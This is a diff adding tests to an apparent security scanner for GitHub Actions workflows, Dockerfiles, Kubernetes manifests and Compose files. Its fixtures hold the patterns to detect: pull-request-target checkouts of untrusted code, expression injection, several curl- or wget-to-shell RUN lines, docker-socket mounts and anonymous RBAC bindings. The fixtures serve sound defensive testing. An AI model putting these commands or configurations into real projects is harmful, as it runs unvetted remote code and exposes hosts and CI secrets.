@@ -167,6 +167,7 @@ t.test('a hardened workload is not flagged, and what cannot be read is said', as
   })
   t.strictSame(findings, [])
   t.match(text, /No misconfiguration was found/)
+  t.match(text, /Judged by these rules, not by others:\n\n- Kubernetes: /)
   t.match(text, /chart\/templates\/x\.yaml:1/)
 })
 
@@ -253,4 +254,76 @@ t.test('a workload named like a secret does not make its findings look like one,
   t.notMatch(text, 'redacted')
   t.match(text, /1 file of more than 512 KB: large\.yaml/)
   t.match(text, /1 file without text/)
+})
+
+t.test('whatever way the code of a pull request or words of others get into a workflow, it is found; looking at them is not', async (t) => {
+  const target = (steps: string) => `on: pull_request_target\npermissions: { contents: read }\njobs:\n  a:\n    steps:\n${steps}`
+  const pinned = `actions/checkout@${'a'.repeat(40)}`
+  const script = `actions/github-script@${'b'.repeat(40)}`
+  const { findings } = await scan(t, Object.fromEntries(Object.entries({
+    head: target(`      - { uses: ${pinned}, with: { ref: "\${{ github.head_ref }}" } }\n`),
+    merge: target(`      - { uses: ${pinned}, with: { ref: "refs/pull/\${{ github.event.number }}/merge" } }\n`),
+    fetch: target('      - run: |\n          git fetch origin pull/$PR/head && git checkout FETCH_HEAD\n'),
+    tool: target('      - run: gh pr checkout $PR\n'),
+    script: target(`      - uses: ${script}\n        with:\n          script: console.log("\${{ github.event.issue.title }}")\n`),
+    called: 'on: push\npermissions: { contents: read }\njobs:\n  a:\n    uses: other/repo/.github/workflows/x.yml@main\n',
+    base: target(`      - { uses: ${pinned}, with: { ref: "\${{ github.event.pull_request.base.sha }}" } }\n      - run: git fetch origin pull/$PR/head && git diff FETCH_HEAD\n      - run: gh api "\${{ contains(github.event.pull_request.title, 'fix') }}"\n`),
+    own: 'on: push\npermissions: { contents: read }\njobs:\n  a:\n    uses: ./.github/workflows/x.yml\n'
+  }).map(([name, text]) => [`.github/workflows/${name}.yml`, text])))
+  t.strictSame(findings.map(place).sort(), [
+    'actions-injection .github/workflows/script.yml:8', 'actions-pwn-request .github/workflows/fetch.yml:6', 'actions-pwn-request .github/workflows/head.yml:6', 'actions-pwn-request .github/workflows/merge.yml:6',
+    'actions-pwn-request .github/workflows/tool.yml:6', 'actions-unpinned .github/workflows/called.yml:5'
+  ])
+})
+
+t.test('scripts from the network are found however they are run, and what is only read from there is not', async (t) => {
+  const run = (command: string) => `FROM node:22.14.0\n${command}\nUSER node\n`
+  const planted = [
+    'RUN curl -sL https://e.com/x | sudo -E bash -', 'RUN curl https://e.com/x | /bin/sh', 'RUN bash -c "$(curl -fsSL https://e.com/x)"', 'RUN bash <(curl -s https://e.com/x)', 'RUN curl https://e.com/x | python3 -',
+    'RUN wget -qO- https://e.com/x | sudo -u app env A=1 bash -s -- y', 'RUN <<EOF\nset -e\ncurl https://e.com/x | sh\nEOF', 'RUN eval "$(curl https://e.com/x)"'
+  ]
+  const fine = ['RUN curl https://e.com/x | python3 -c "import json"', 'RUN curl https://e.com/x -o y || sh z', 'RUN curl https://e.com/x | tar xz', 'RUN python3 <<EOF\nfrom os import path\nUSER = 1\nEOF', 'COPY <<EOF /usage\ncurl https://e.com/x | sh\nEOF']
+  const { findings } = await scan(t, Object.fromEntries([...planted, ...fine].map((command, index) => [`${index}/Dockerfile`, run(command)])))
+  t.strictSame(findings.map(place).sort(), planted.map((_, index) => `docker-pipe-to-shell ${index}/Dockerfile:2`))
+})
+
+t.test('a Dockerfile that runs as another user by what it is built on is not flagged, nor are settings whose names only speak of secrets', async (t) => {
+  const { findings } = await scan(t, {
+    'a/Dockerfile': 'FROM node:22.14.0 AS base\nUSER node\nFROM base AS final\nCMD ["x"]\n',
+    'b/Dockerfile': 'FROM gcr.io/distroless/static-debian12:nonroot\nCOPY x /x\n',
+    'c/Dockerfile': 'FROM node:22.14.0\nENV DB_PASSWORD_FILE=/run/secrets/db MAX_TOKENS=4096\nENV TOKENIZERS_PARALLELISM false\nARG DISABLE_PASSWORD_LOGIN=true\nARG API_TOKEN=$OTHER\nUSER node\n',
+    'f/Dockerfile': 'FROM nginxinc/nginx-unprivileged:1.27.1\nCOPY x /x\n',
+    'd/Dockerfile': 'FROM node:22.14.0 AS base\nUSER root\nFROM base\n',
+    'e/Dockerfile': 'FROM node:lts\nENV PORT=80 DB_PASSWORD="correct horse battery"\nUSER node\n'
+  })
+  t.strictSame(findings.map(place).sort(), ['docker-image-floating e/Dockerfile:1', 'docker-runs-as-root d/Dockerfile:2', 'docker-secret-in-image e/Dockerfile:2'])
+})
+
+t.test('settings of a workload whose names only speak of secrets are none, and a user other than root is one', async (t) => {
+  const variables = { MAX_TOKENS: '4096', TOKENIZERS_PARALLELISM: 'false', TOKEN_TTL_SECONDS: '3600', DISABLE_PASSWORD_LOGIN: 'true', PASSWORD_MIN_LENGTH_POLICY: 'strict', DB_PASSWORD_FILE: '/run/secrets/db' }
+  const { findings } = await scan(t, {
+    'pod.yaml': podWith(`      image: nginx:1.27.1\n      env: ${JSON.stringify(Object.entries(variables).map(([name, value]) => ({ name, value })))}\n`, '  securityContext: { runAsUser: 10001 }\n')
+  })
+  t.notOk(findings.some(({ rule, severity }) => /secret|root$|credential/.test(rule) && severity !== 'low'), findings.map(place).join(' '))
+})
+
+t.test('power is found however a workload, a role or a Compose file writes it', async (t) => {
+  const role = (kind: string, rule: string) => `apiVersion: rbac.authorization.k8s.io/v1\nkind: ${kind}\nmetadata: { name: r }\nrules:\n  - ${rule}\n`
+  const image = 'image: a:1.2.3'
+  const binding = (name: string, subject: string) => `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: b }\nroleRef: { kind: ClusterRole, name: ${name} }\nsubjects: [{ kind: Group, name: "${subject}" }]\n`
+  const { findings } = await scan(t, {
+    'pod.yaml': podWith('      image: nginx:latest-alpine\n      securityContext: { runAsUser: "0", privileged: on, windowsOptions: { hostProcess: true } }\n', '  hostNetwork: yes\n  hostPID: on\n  hostIPC: no\n'),
+    'pods.yaml': role('ClusterRole', '{ resources: ["pods/*", "nodes/*"], verbs: [create] }'),
+    'secrets.yaml': role('ClusterRole', '{ resources: [secrets], resourceNames: [], verbs: [get] }'),
+    'status.yaml': role('ClusterRole', '{ resources: [pods/status], verbs: [get] }'),
+    'edit.yaml': binding('edit', 'system:authenticated'),
+    'anybody.yaml': binding('admin', 'system:unauthenticated'),
+    'info.yaml': binding('system:public-info-viewer', 'system:unauthenticated'),
+    'compose.yaml': `services:\n  a:\n    ${image}\n    privileged: "yes"\n    devices: ["/dev/mem:/dev/mem", /dev/sda, /dev/fuse]\n    volumes: ["\${SOCK:-/var/run/docker.sock}:/var/run/docker.sock"]\n    cap_add: [sys_admin]\n  b:\n    ${image}\n    privileged: "\${P:-false}"\n`
+  })
+  t.strictSame(findings.filter(({ severity, rule }) => severity === 'critical' || severity === 'high' || rule.endsWith('floating')).map(place).sort(), [
+    'compose-capability-added compose.yaml:7', 'compose-device compose.yaml:5', 'compose-device compose.yaml:5', 'compose-privileged compose.yaml:4', 'compose-runtime-socket compose.yaml:6',
+    'k8s-host-namespace pod.yaml:6', 'k8s-host-namespace pod.yaml:7', 'k8s-host-process pod.yaml:12', 'k8s-image-floating pod.yaml:11', 'k8s-privileged pod.yaml:12',
+    'k8s-rbac-all-secrets secrets.yaml:5', 'k8s-rbac-anonymous anybody.yaml:5', 'k8s-rbac-everybody edit.yaml:5', 'k8s-rbac-way-in pods.yaml:5', 'k8s-runs-as-root pod.yaml:12'
+  ])
 })
